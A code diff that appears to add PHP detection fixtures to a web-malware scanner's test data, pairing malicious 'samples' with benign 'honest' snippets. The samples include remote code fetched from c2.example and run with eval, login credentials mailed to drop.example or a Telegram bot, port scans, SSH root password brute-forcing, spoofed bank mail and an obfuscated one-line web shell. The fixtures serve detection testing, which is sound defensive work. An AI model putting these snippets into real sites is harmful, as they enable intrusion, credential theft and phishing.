@@ -193,4 +193,73 @@ $m = new M; foreach (preg_split('/\\n/', $_POST['emailList']) as $t) $m->go($t, 
       php(`$key = md5(serialize($_GET)); $page = file_get_contents("cache/$key.html"); echo $page;`),
     ],
   },
+  {
+    name: 'files that another server names',
+    severity: 'suspicious',
+    samples: [
+      php(
+        `add_action('tick', 't'); function t() { $r = wp_remote_post('https://c2.example/'); foreach ($r as $f) file_put_contents(ABSPATH . $f['p'], base64_decode($f['c'])); }`,
+      ),
+      php(`add_filter('template_include', function ($t) { if (isset($_GET['t'])) return $_GET['t']; return $t; });`),
+      php(`function get($u) { $c = curl_init($u); return curl_exec($c); } eval('?>' . get('https://c2.example/x'));`),
+    ],
+    honest: [
+      php(`$r = wp_remote_get($url); file_put_contents($target, wp_remote_retrieve_body($r));`),
+      php(
+        `add_filter('template_include', function ($t) { return isset($_GET['print']) ? __DIR__ . '/print.php' : $t; });`,
+      ),
+    ],
+  },
+  {
+    name: 'false logins',
+    severity: 'suspicious',
+    samples: [
+      php(
+        `mail('a@drop.example', 'log', $_POST['user'] . ':' . $_POST['pass']); header('Location: https://bank.example/');`,
+      ),
+      php(`file_get_contents('https://api.telegram.org/bot1/sendMessage?text=' . $_POST['password']);`),
+    ],
+    honest: [
+      php(
+        `if (password_verify($_POST['pass'], $hash)) { mail($user, 'Sign-in', 'You signed in.'); header('Location: https://example.org/'); }`,
+      ),
+      php(`mail('owner@example.org', 'Order', $_POST['text']); header('Location: https://example.org/thanks');`),
+    ],
+  },
+  {
+    name: 'ports and passwords of others',
+    severity: 'suspicious',
+    samples: [
+      php(`for ($p = 1; $p < 65535; $p++) if ($s = @fsockopen('127.0.0.1', $p, $e, $m, 1)) echo $p;`),
+      php(
+        `foreach (explode("\\n", $_POST['list']) as $p) { $c = ssh2_connect('192.0.2.1', 22); if (ssh2_auth_password($c, 'root', trim($p))) echo $p; }`,
+      ),
+      php(
+        `foreach (explode("\\n", file_get_contents('to.txt')) as $t) mail(trim($t), 'Notice', 'text', "From: service@bank.example");`,
+      ),
+    ],
+    honest: [
+      php(`for ($try = 1; $try < 5; $try++) if ($s = fsockopen($host, 25, $e, $m, 1)) break;`),
+      php(`foreach ($subscribers as $one) mail($one->email, $subject, $text, "From: $from");`),
+    ],
+  },
+  {
+    name: 'what others hold',
+    severity: 'suspicious',
+    samples: [
+      php(`$d = new SQLite3($_GET['d']); $r = $d->query('select 1');`),
+      php(`$z = new PharData($_FILES['a']['tmp_name']); $z->extractTo('.');`),
+      php(`print_r(scandir('/'));`),
+      php(`function name() { return 'assert'; } call_user_func(name(), $_POST['c']);`),
+      php(`(function () { eval(func_get_args()[0]); })($x);`),
+      php(`system($_SERVER['REQUEST_METHOD']);`),
+      '<?=$_="{{{"^"?<>/";${$_}[_](${$_}[__]);',
+      php(`$h = fopen('n.php', 'w'); fwrite($h, '<html><?php move_uploaded_file($_FILES[1][2], 3); ?></html>');`),
+    ],
+    honest: [
+      php(`class Store { function open($file) { return new SQLite3($file); } }`),
+      php(`print_r(scandir(__DIR__)); $z = new PharData('release.tar'); $z->extractTo($target);`),
+      php(`function name() { return 'strtolower'; } echo call_user_func(name(), $_POST['c']);`),
+    ],
+  },
 ]
